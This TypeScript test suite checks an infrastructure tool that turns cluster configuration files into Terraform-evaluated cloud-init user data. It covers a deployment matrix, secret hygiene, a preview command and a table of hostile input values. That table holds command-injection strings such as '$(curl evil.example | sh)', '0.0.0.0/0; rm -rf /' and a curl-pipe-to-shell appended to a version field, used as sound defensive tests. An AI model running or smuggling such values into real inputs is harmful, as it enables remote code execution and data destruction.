/**
 * What a server actually receives: user data evaluated by the real
 * Terraform binary, checked by cloud-init's own schema validation and
 * PyYAML, scripts checked by shellcheck; hostile Sovereign files; secret
 * hygiene.
 */
import { spawnSync } from "child_process";
import { createHash } from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as yaml from "js-yaml";
import { SovereignFileError } from "../config/errors";
import { Sovereign, parseSovereign } from "../config/load";
import { gitopsClusterDir } from "../userdata/flux-bootstrap";
import { sovereignJson } from "../userdata/sovereign-json";
import { resolveVersions } from "../userdata/versions";
import { requireTool, runcmdScript } from "./fixtures/boot";
import { CheckedServer, TEST_SECRETS, evaluateAndCheck, synthesise } from "./fixtures/evaluated";
import { EXAMPLE_TEXT, ROOT, exampleWith, sovereignWith } from "./fixtures/sovereigns";

const HAVE_TOOLS = requireTool("terraform", "user data evaluation") && requireTool("cloud-init", "cloud-config schema validation");
const realTools = HAVE_TOOLS ? describe : describe.skip;

const X86 = { cp: "cx43", worker: "cx33" };
const ARM = { cp: "cax21", worker: "cax31" };
const AMD = { cp: "cpx42", worker: "cpx32" };
const DEDICATED = { cp: "ccx23", worker: "ccx13" };
/** [location, ha, workers, hardening, postback, types] — every value of every factor appears (Arm and cx exist only in the EU). */
const MATRIX: [string, boolean, number, boolean, boolean, typeof X86][] = [
  ["fsn1", false, 0, true, true, X86],
  ["fsn1", true, 3, false, false, ARM],
  ["nbg1", false, 3, true, false, ARM],
  ["nbg1", true, 0, false, true, X86],
  ["hel1", false, 0, false, true, ARM],
  ["hel1", true, 3, true, false, DEDICATED],
  ["ash", false, 3, false, true, AMD],
  ["ash", true, 0, true, false, DEDICATED],
  ["hil", false, 0, true, false, AMD],
  ["hil", true, 3, false, true, DEDICATED],
  ["sin", false, 3, true, true, AMD],
  ["sin", true, 3, false, false, DEDICATED],
];

function matrixSovereign([location, ha, count, hardening, postback, arch]: (typeof MATRIX)[number], i: number): Sovereign {
  return sovereignWith({
    fqdn: `m${i}.${location}.example.org`,
    location,
    controlPlane: { ha, serverType: arch.cp },
    workers: { count, serverType: arch.worker },
    hardening: { fail2ban: hardening, unattendedUpgrades: hardening },
    postback: postback ? { deploymentId: `${i}`.padStart(16, "a"), apiUrl: "https://console.example.org/sovereign" } : null,
    gitops: { repoUrl: `https://git.example.org/org${i}/gitops`, branch: `release/${i}`, layout: i % 2 ? "per-fqdn" : "template" },
  });
}

const roleOf = (s: CheckedServer) => (/-cp-1$/.test(s.server) ? "first-server" : /-cp-\d$/.test(s.server) ? "joining-server" : "agent");

realTools("the matrix of Sovereigns, as Terraform hands them to servers", () => {
  let servers: CheckedServer[];
  beforeAll(() => {
    servers = evaluateAndCheck(MATRIX.map(matrixSovereign));
  });

  test("covers every location, both architectures, solo and HA, 0 and 3 workers, hardening and postback on and off", () => {
    expect(servers).toHaveLength(45);
    expect(new Set(servers.map((s) => s.sovereign.location))).toEqual(new Set(["fsn1", "nbg1", "hel1", "ash", "hil", "sin"]));
  });

  test("every server's user data passes cloud-init's schema validation", () => {
    expect(servers.filter((s) => s.schemaError !== null).map((s) => [s.server, s.schemaError])).toEqual([]);
  });

  test("sovereign.json carries the file's values on every server", () => {
    for (const s of servers) {
      const expected = sovereignJson({ sovereign: s.sovereign, versions: resolveVersions(s.sovereign) } as never);
      expect(JSON.parse(s.files["/var/lib/catalyst/sovereign.json"])).toEqual(expected);
    }
  });

  test("k3s config: role, the right token (agents never hold the server token), SANs, join address", () => {
    for (const s of servers) {
      const k3s = yaml.load(s.files["/etc/rancher/k3s/config.yaml"]) as Record<string, any>;
      const role = roleOf(s);
      const serverToken = "Kx7Qm2Vb9Rt4Lp8Wz3Nc6Hd1Fg5Sj0Ya7Ue2Io9Pk4Mb8Tn3Cv6Xq1Rz5Gw0Lh2Dd";
      const agentToken = "Ag3ntT0kenAg3ntT0kenAg3ntT0kenAg3ntT0kenAg3ntT0kenAg3ntT0kenAg3n";
      expect(k3s.token).toBe(role === "agent" ? agentToken : serverToken);
      if (role !== "agent") expect(k3s["agent-token"]).toBe(agentToken);
      expect(JSON.stringify(k3s)).not.toContain(role === "agent" ? serverToken : "no such value");
      expect(k3s["node-label"]).toEqual([`catalyst.openova.io/role=${role === "agent" ? "worker" : "control-plane"}`]);
      // cloudController hcloud (the default): the node is named after its Hetzner server.
      expect([k3s["node-name"], k3s["kubelet-arg"]]).toEqual([s.server, ["cloud-provider=external"]]);
      if (role === "first-server") {
        expect(k3s["cluster-init"]).toBe(true);
        expect(k3s.server).toBeUndefined();
      } else {
        expect(k3s["cluster-init"]).toBeUndefined();
        expect(k3s.server).toBe("https://10.0.1.5:6443");
      }
      if (role !== "agent") expect(k3s["tls-san"]).toEqual([s.sovereign.fqdn, "203.0.113.10", "10.0.1.5"]);
    }
  });

  test("Flux objects name the file's repository and branch; only first servers carry them", () => {
    for (const s of servers) {
      const bootstrap = s.files["/var/lib/catalyst/flux-bootstrap.yaml"];
      if (roleOf(s) !== "first-server") {
        expect(bootstrap).toBeUndefined();
        continue;
      }
      const [repo, kit] = yaml.loadAll(bootstrap) as any[];
      expect(repo.spec.url).toBe(s.sovereign.gitops.repoUrl);
      expect(repo.spec.ref.branch).toBe(s.sovereign.gitops.branch);
      expect(kit.spec.path).toBe(`./${gitopsClusterDir(s.sovereign)}/bootstrap-kit`);
      if (s.sovereign.gitops.layout === "template") expect(kit.spec.postBuild.substitute.SOVEREIGN_FQDN).toBe(s.sovereign.fqdn);
    }
  });

  test("postback settings and bearer exist exactly where the file asks for a postback", () => {
    for (const s of servers) {
      const wanted = roleOf(s) === "first-server" && s.sovereign.postback !== undefined;
      expect([s.server, s.files["/etc/catalyst/postback-bearer"]]).toEqual([s.server, wanted ? `${TEST_SECRETS.kubeconfig_bearer_token}\n` : undefined]);
      if (wanted) {
        expect(JSON.parse(s.files["/etc/catalyst/postback.json"])).toEqual({
          apiUrl: "https://console.example.org/sovereign",
          deploymentId: s.sovereign.postback!.deploymentId,
          loadBalancerIpv4: "203.0.113.10",
        });
      }
    }
  });

  test("every script and every runcmd as cloud-init assembles it passes shellcheck", () => {
    if (!requireTool("shellcheck", "shell script linting")) return;
    const unique = new Map<string, string>();
    for (const s of servers) {
      for (const [file, content] of Object.entries(s.files)) {
        if (content.startsWith("#!")) unique.set(createHash("sha256").update(content).digest("hex"), `${file}\n${content}`);
      }
      const runcmd = runcmdScript(s.doc.runcmd);
      unique.set(createHash("sha256").update(runcmd).digest("hex"), `runcmd of ${s.server}\n${runcmd}`);
    }
    expect(unique.size).toBeGreaterThan(8);
    for (const entry of unique.values()) {
      const [name, ...rest] = entry.split("\n");
      const result = spawnSync("shellcheck", ["--severity=style", "-"], { input: rest.join("\n"), encoding: "utf8" });
      expect([name, result.stdout + result.stderr]).toEqual([name, ""]);
    }
  });

  test("sizes: the example-like first server within 20 KiB, every server within Hetzner's 32 KiB", () => {
    const sizes = servers.map((s) => Buffer.byteLength(s.userData));
    expect(Math.max(...sizes)).toBeLessThan(32 * 1024);
    const firstServerWithEverything = servers.find((s) => roleOf(s) === "first-server" && s.sovereign.postback && s.sovereign.hardening.fail2ban)!;
    expect(Buffer.byteLength(firstServerWithEverything.userData)).toBeLessThanOrEqual(20 * 1024);
  });
});

/**
 * Values chosen to break a template renderer. `null` expects the value to
 * render byte for byte; a string names the field path the rejection must give.
 */
const HOSTILE: [string, Record<string, unknown>, string | null][] = [
  ["single quote in org name", { org: { name: "O'Brien" } }, null],
  ["double quotes and ampersand", { org: { name: `O'Brien "Ops" & Partners` } }, null],
  ["dollar sign", { org: { name: "Cash $ Co" } }, null],
  ["terraform interpolation", { org: { name: "${var.hcloud_token}" } }, null],
  ["terraform directive", { org: { name: "%{ if true }x%{ endif }" } }, null],
  ["escaped interpolation", { org: { name: "$${already}" } }, null],
  ["cdktf token lookalike", { org: { name: "${TfToken[TOKEN.1]}" } }, "org.name"],
  ["cdktf token lookalike in a key comment", { ssh: { publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBr+1AJdeaIezHpn71ukww05rETxoIr02h9rQd3GbJiX #{TfToken[x]}" } }, "ssh.publicKey"],
  ["backticks", { org: { name: "`reboot`" } }, null],
  ["command substitution", { org: { name: "$(curl evil.example | sh)" } }, null],
  ["hash", { org: { name: "#1 Ops # comment" } }, null],
  ["colon space", { org: { name: "key: value" } }, null],
  ["dash space", { org: { name: "- item" } }, null],
  ["yaml 1.1 yes", { org: { name: "yes" } }, null],
  ["yaml 1.1 on", { org: { name: "on" } }, null],
  ["yaml null", { org: { name: "null" } }, null],
  ["octal-looking", { org: { name: "0644" } }, null],
  ["tilde", { org: { name: "~" } }, null],
  ["leading and trailing spaces", { org: { name: "  spaced  " } }, null],
  ["unicode", { org: { name: "Société Générale — 東京 ✓ 🚀" } }, null],
  ["backslashes", { org: { name: "C:\\new\\table \\n \\u0041" } }, null],
  ["json-looking", { org: { name: '{"a": [1, 2]}' } }, null],
  ["very long org name", { org: { name: "Ω".repeat(200) } }, null],
  ["too long org name", { org: { name: "x".repeat(201) } }, "org.name"],
  ["newline in org name", { org: { name: "line1\nline2" } }, "org.name"],
  ["carriage return", { org: { name: "a\rb" } }, "org.name"],
  ["tab", { org: { name: "a\tb" } }, "org.name"],
  ["plus addressing", { org: { email: "ops+k8s@example.org" } }, null],
  ["email with dollar", { org: { email: "o$ps@example.org" } }, "org.email"],
  ["email with quote", { org: { email: "o'ps@example.org" } }, "org.email"],
  ["branch with slash and dots", { gitops: { branch: "feature/a.b-c_d" } }, null],
  ["branch with dollar brace", { gitops: { branch: "x${y}" } }, null],
  ["branch with percent brace", { gitops: { branch: "x%{y}" } }, null],
  ["branch with backtick", { gitops: { branch: "x`id`" } }, null],
  ["branch with space", { gitops: { branch: "a b" } }, "gitops.branch"],
  ["branch with colon", { gitops: { branch: "a:b" } }, "gitops.branch"],
  ["repo url with query", { gitops: { repoUrl: "https://github.com/o/r?ref=x" } }, "gitops.repoUrl"],
  ["repo url with fragment", { gitops: { repoUrl: "https://github.com/o/r#main" } }, "gitops.repoUrl"],
  ["repo url with ampersand", { gitops: { repoUrl: "https://github.com/o/r&x" } }, null],
  ["repo url with space", { gitops: { repoUrl: "https://github.com/o r/x" } }, "gitops.repoUrl"],
  ["repo url with dollar", { gitops: { repoUrl: "https://github.com/o/${r}" } }, "gitops.repoUrl"],
  ["ssh repo url", { gitops: { repoUrl: "ssh://git@github.com/openova-io/openova.git" } }, "gitops.repoUrl"],
  ["scp-style repo url", { gitops: { repoUrl: "git@github.com:openova-io/openova.git" } }, "gitops.repoUrl"],
  ["api url with port and path", { postback: { apiUrl: "https://console.example.org:8443/a/b" } }, null],
  ["api url with query", { postback: { apiUrl: "https://console.example.org/x?y=1&z=2" } }, "postback.apiUrl"],
  ["api url with space", { postback: { apiUrl: "https://console.example.org/a b" } }, "postback.apiUrl"],
  ["ssh key comment with template syntax", { ssh: { publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBr+1AJdeaIezHpn71ukww05rETxoIr02h9rQd3GbJiX ${ops} %{x} \"q\"" } }, null],
  ["fqdn with uppercase", { fqdn: "Acme.example.org" }, "fqdn"],
  ["fqdn with dollar", { fqdn: "a$b.example.org" }, "fqdn"],
  ["fqdn with slash", { fqdn: "a/b.example.org" }, "fqdn"],
  ["fqdn 64-char label", { fqdn: `${"a".repeat(64)}.example.org` }, "fqdn"],
  ["cidr garbage", { ssh: { allowedCidrs: ["0.0.0.0/0; rm -rf /"] } }, "ssh.allowedCidrs[0]"],
  ["cidr as number", { ssh: { allowedCidrs: [10] } }, "ssh.allowedCidrs[0]"],
  ["workers as string", { workers: { count: "3" } }, "workers.count"],
  ["ha as yes", { controlPlane: { ha: "yes" } }, "controlPlane.ha"],
  ["location list", { location: ["fsn1"] }, "location"],
  ["k3s version injection", { k3s: { version: "v1.31.4+k3s1; curl x | sh" } }, "k3s.version"],
  ["registry username injection", { registry: { username: "a:b" } }, "registry.username"],
  ["unknown key", { extra: true }, "extra"],
  ["unknown nested key", { org: { name: "A", phone: "1" } }, "org.phone"],
];

realTools("hostile Sovereign files", () => {
  const accepted: { name: string; sovereign: Sovereign }[] = [];
  const rejected: { name: string; path: string; problems: string[] }[] = [];
  HOSTILE.forEach(([name, change, field], i) => {
    const data = exampleWith({ ...change, fqdn: (change.fqdn as string) ?? `h${i}.example.org` });
    try {
      accepted.push({ name, sovereign: parseSovereign(yaml.dump(data), `hostile-${i}.yaml`) });
    } catch (err) {
      if (!(err instanceof SovereignFileError)) throw err;
      rejected.push({ name, path: field ?? "(should have been accepted)", problems: err.problems.map((p) => p.path) });
    }
  });
  let servers: CheckedServer[];
  beforeAll(() => {
    servers = evaluateAndCheck(accepted.map((a) => a.sovereign));
  });

  test("there are at least 40 of them", () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40);
  });

  test.each(HOSTILE.filter(([, , field]) => field !== null))("fails on %s, naming the field", (name, _change, field) => {
    const r = rejected.find((x) => x.name === name);
    expect(r?.problems).toContain(field);
  });

  test.each(HOSTILE.filter(([, , field]) => field === null))("%s renders byte for byte", (name) => {
    const entry = accepted.find((a) => a.name === name);
    expect(entry).toBeDefined();
    const s = entry!.sovereign;
    const server = servers.find((x) => x.stack === s.stackName && /-cp-1$/.test(x.server))!;
    expect(server.schemaError).toBeNull();
    const json = JSON.parse(server.files["/var/lib/catalyst/sovereign.json"]);
    expect(json.orgName).toBe(s.org.name);
    expect(json.orgEmail).toBe(s.org.email);
    expect(json.gitopsRepoUrl).toBe(s.gitops.repoUrl);
    expect(json.gitopsBranch).toBe(s.gitops.branch);
    const [repo] = yaml.loadAll(server.files["/var/lib/catalyst/flux-bootstrap.yaml"]) as any[];
    expect([repo.spec.url, repo.spec.ref.branch]).toEqual([s.gitops.repoUrl, s.gitops.branch]);
    expect(JSON.parse(server.files["/etc/catalyst/postback.json"]).apiUrl).toBe(s.postback!.apiUrl.replace(/\/+$/, ""));
    expect(server.doc.final_message).toContain(s.fqdn);
    expect(server.sshPublicKey).toBe(s.ssh.publicKey);
  });
});

realTools("secret hygiene", () => {
  const sentinels = Object.values(TEST_SECRETS);

  test("synthesis with the secrets in the environment writes none of them anywhere", () => {
    const out = fs.mkdtempSync(path.join(os.tmpdir(), "hygiene-"));
    try {
      const env: NodeJS.ProcessEnv = { ...process.env, CDKTF_OUTDIR: out };
      for (const [name, value] of Object.entries(TEST_SECRETS)) env[`TF_VAR_${name}`] = value;
      const result = spawnSync("node", [path.join(ROOT, "dist", "main.js")], { cwd: ROOT, env, encoding: "utf8" });
      expect(result.status).toBe(0);
      const everything = [result.stdout, result.stderr, ...listFiles(out).map((f) => fs.readFileSync(f, "utf8"))].join("\n");
      for (const secret of sentinels) expect(everything).not.toContain(secret);
    } finally {
      fs.rmSync(out, { recursive: true, force: true });
    }
  });

  test("no snapshot holds a secret, and no output or non-sensitive value references one", () => {
    const snapshots = listFiles(path.join(ROOT, "__tests__", "__snapshots__")).map((f) => fs.readFileSync(f, "utf8")).join("\n");
    for (const secret of sentinels) expect(snapshots).not.toContain(secret);
    const [stack] = synthesise([parseSovereign(EXAMPLE_TEXT, "example.yaml")]);
    for (const name of Object.keys(TEST_SECRETS)) expect(stack.json.variable[name].sensitive).toBe(true);
    expect(JSON.stringify(stack.json.output)).not.toMatch(/var\.|random_password/);
  });
});

function listFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? listFiles(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}

realTools("npm run preview", () => {
  const preview = (...args: string[]) => spawnSync("node", [path.join(ROOT, "dist", "preview.js"), ...args], { cwd: ROOT, encoding: "utf8" });

  test("prints the evaluated cloud-init of one server", () => {
    const result = preview("omantel-omani-works", "cp-1");
    expect(result.status).toBe(0);
    expect(result.stdout.startsWith("#cloud-config\n")).toBe(true);
    const doc = yaml.load(result.stdout) as { write_files: { path: string; content: string }[] };
    const k3s = doc.write_files.find((f) => f.path === "/etc/rancher/k3s/config.yaml")!;
    expect(Buffer.from(k3s.content, "base64").toString("utf8")).toContain("- 203.0.113.10\n");
    // Evaluated, not synthesised: no Terraform escapes left.
    expect(result.stdout).not.toContain("$${");
  });

  test("takes a file name as SOVEREIGN does (the example's, while sovereigns/ is empty)", () => {
    const byFile = preview("example", "cp-1");
    expect(byFile.status).toBe(0);
    expect(byFile.stdout).toBe(preview("omantel-omani-works", "cp-1").stdout);
  });

  test("fails on an unknown server, listing the servers", () => {
    const result = preview("omantel-omani-works", "cp-9");
    expect(result.status).toBe(2);
    expect(result.stderr).toContain("servers: catalyst-omantel-omani-works-cp-1");
  });

  test("fails on an unknown stack, naming the known ones", () => {
    const result = preview("no-such-stack");
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('no Sovereign named "no-such-stack"');
  });
});
